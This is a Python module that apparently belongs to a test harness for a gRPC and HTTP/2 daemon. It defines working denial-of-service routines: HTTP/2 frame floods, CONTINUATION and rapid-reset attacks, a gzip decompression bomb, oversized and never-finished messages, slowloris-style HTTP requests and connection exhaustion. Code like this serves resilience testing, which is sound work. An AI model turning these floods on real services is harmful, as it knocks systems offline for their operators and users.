"""Attacks that need no token: floods of frames, messages, connections and requests."""

from __future__ import annotations

import contextlib
import gzip
import itertools
import os
import socket
import struct
import time

from .hpack import literal
from .http2 import (
    PREFACE,
    Flag,
    Kind,
    Setting,
    call_fields,
    frame,
    grpc_message,
    ping,
    reset,
    settings,
    window_update,
)
from .strangers import ROUND_SECONDS, STREAMS_PER_CONNECTION, Place, attack
from .support import RawHandoff

MIB = 1 << 20
EMPTY_SOURCE = b"\x0a\x00"
"""Field 1 of PrefetchRequest, an empty string: two bytes that cost many times that once they are parsed."""
LOAD = "/penstock.v1.StreamerService/Load"


def _flood(place: Place, unit: bytes, *, begin: bytes = b"") -> None:
    """One connection that repeats these frames for a round."""
    with place.connect() as connection:
        connection.send(begin)
        end = time.monotonic() + ROUND_SECONDS
        while not connection.closed and (left := end - time.monotonic()) > 0:
            connection.offer(unit, seconds=left)


@attack
def ping_flood(place: Place) -> None:
    _flood(place, ping() * 1000)


@attack
def settings_flood(place: Place) -> None:
    _flood(place, settings({Setting.INITIAL_WINDOW_SIZE: 70000}) * 1000)


@attack
def window_update_flood(place: Place) -> None:
    _flood(place, window_update(0, 1) * 1000)


@attack
def priority_flood(place: Place) -> None:
    _flood(place, frame(Kind.PRIORITY, stream=1, payload=bytes(5)) * 1000)


@attack
def unknown_frame_flood(place: Place) -> None:
    _flood(place, frame(77, payload=bytes(16000)))


@attack
def empty_data_flood(place: Place) -> None:
    begin = frame(Kind.HEADERS, Flag.END_HEADERS, 1, call_fields(LOAD))
    _flood(place, frame(Kind.DATA, stream=1) * 1000, begin=begin)


@attack
def continuation_flood(place: Place) -> None:
    """A header block that never ends."""
    begin = frame(Kind.HEADERS, 0, 1, literal(":path", "/x"))
    _flood(place, frame(Kind.CONTINUATION, 0, 1, literal("a", "b") * 2000), begin=begin)


@attack
def empty_continuation_flood(place: Place) -> None:
    begin = frame(Kind.HEADERS, 0, 1, literal(":path", "/x"))
    _flood(place, frame(Kind.CONTINUATION, 0, 1) * 1000, begin=begin)


@attack
def rapid_reset(place: Place) -> None:
    """Opens streams and resets them at once."""
    with place.connect() as connection:
        end = time.monotonic() + ROUND_SECONDS
        while not connection.closed and time.monotonic() < end:
            unit = b""
            for _ in range(100):
                stream = connection.next_stream()
                unit += frame(Kind.HEADERS, Flag.END_HEADERS, stream, call_fields(LOAD)) + reset(stream)
            connection.offer(unit, seconds=max(0.0, end - time.monotonic()))


@attack
def large_metadata(place: Place) -> None:
    """Calls whose header blocks are as large as a sender likes."""
    with place.connect() as connection:
        for number in range(20):
            connection.open_stream("GetStatus", [(f"x-{number}-{part}", "v" * 8000) for part in range(20)])
        connection.linger(ROUND_SECONDS / 2)


@attack
def calls_without_token(place: Place) -> None:
    """As many as are answered."""
    with place.connect() as connection:
        end = time.monotonic() + ROUND_SECONDS
        while not connection.closed and time.monotonic() < end:
            streams = [connection.open_stream("GetStatus") for _ in range(STREAMS_PER_CONNECTION)]
            for stream in streams:
                connection.send_message(stream, b"", end=True)
            connection.wait(lambda: all(map(connection.over, streams)), "the calls to end")  # noqa: B023


@attack
def unfinished_messages(place: Place) -> None:
    """Messages of 60 MiB on each stream of two connections, of which the last byte never comes."""
    with place.connect() as one, place.connect() as two:
        claim = struct.pack(">?I", False, 60 * MIB)
        open_streams = []
        for connection in (one, two):
            streams = [connection.open_stream("GetStatus") for _ in range(STREAMS_PER_CONNECTION)]
            for stream in streams:
                connection.send_data(stream, claim)
            open_streams += [(connection, stream) for stream in streams]
        end = time.monotonic() + ROUND_SECONDS
        for connection, stream in itertools.cycle(open_streams):
            if time.monotonic() > end or connection.closed:
                return
            if (room := connection.window_bytes(stream)) > 0 and not connection.over(stream):
                connection.send_data(stream, bytes(min(room, 64 << 10)))
            else:
                connection.linger(0.001)


@attack
def many_elements(place: Place) -> None:
    """One message of 16 MB with eight million sources."""
    with place.connect() as connection:
        stream = connection.open_stream("Prefetch")
        connection.send_message(stream, EMPTY_SOURCE * 8_000_000, end=True)
        connection.wait(lambda: connection.over(stream), "an answer")


@attack
def decompression_bomb(place: Place) -> None:
    """60 MiB on each stream, in 60 KB."""
    bomb = gzip.compress(bytes(60 * MIB))
    with place.connect() as connection:
        for _ in range(STREAMS_PER_CONNECTION):
            stream = connection.open_stream("GetStatus", [("grpc-encoding", "gzip")])
            connection.send_data(stream, grpc_message(bomb, compressed=True), end=True)
        connection.linger(ROUND_SECONDS / 2)


@attack
def idle_connections(place: Place) -> None:
    """Hundreds to the gRPC socket, some without a word and some after the preface."""
    with contextlib.ExitStack() as held:
        for number in range(400):
            held.enter_context(place.connect(preface=PREFACE if number % 2 else b""))
        time.sleep(ROUND_SECONDS)


@attack
def all_sessions(place: Place) -> None:
    """More handoff connections than one user gets."""
    with contextlib.ExitStack() as held:
        for _ in range(1100):
            held.enter_context(place.session())
        time.sleep(ROUND_SECONDS)


@attack
def handoff_garbage(place: Place) -> None:
    """Packets and descriptors that nobody asked for."""
    read, write = os.pipe()
    try:
        for size in range(100):
            with RawHandoff(place.socket_dir) as handoff:
                handoff.send(os.urandom(size * 100), [read, write] * 100)
    finally:
        os.close(read)
        os.close(write)


@attack
def http_crowd(place: Place) -> None:
    """Slow requests, more of them than there may be connections."""
    with contextlib.ExitStack() as held:
        for _ in range(200):
            connection = held.enter_context(place.connect_http())
            connection.sendall(b"GET /status HTTP/1.1\r\nX: ")
        time.sleep(ROUND_SECONDS / 2)


@attack
def http_without_end(place: Place) -> None:
    """Questions by the thousand, whose answers nobody reads."""
    request = (
        b"GET /status HTTP/1.1\r\nHost: localhost\r\n\r\nGET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n"
    )
    with place.connect_http() as connection:
        connection.settimeout(ROUND_SECONDS)
        with contextlib.suppress(socket.timeout):
            while True:
                connection.sendall(request * 100)


@attack
def http_formats_without_end(place: Place) -> None:
    """Metrics in ever new formats, of which each would be kept."""
    numbers = itertools.count()
    with place.connect_http() as connection:
        end = time.monotonic() + ROUND_SECONDS
        while time.monotonic() < end:
            accept = f"application/openmetrics-text; version=1.0.{next(numbers)}"
            request = f"GET /metrics HTTP/1.1\r\nHost: localhost\r\nAccept: {accept}\r\n\r\n"
            connection.sendall(request.encode())
            connection.recv(1 << 20)


@attack
def health_watches_nobody_reads(place: Place) -> None:
    """Watches of the daemon's health by clients without a window, some of which go."""
    with contextlib.ExitStack() as held:
        for _ in range(10):
            connection = held.enter_context(place.connect(settings_sent={Setting.INITIAL_WINDOW_SIZE: 0}))
            for number in range(STREAMS_PER_CONNECTION):
                stream = connection.open_stream("/grpc.health.v1.Health/Watch")
                connection.send_message(stream, b"", end=True)
                if number % 2:
                    connection.send(reset(stream))
        time.sleep(ROUND_SECONDS / 2)
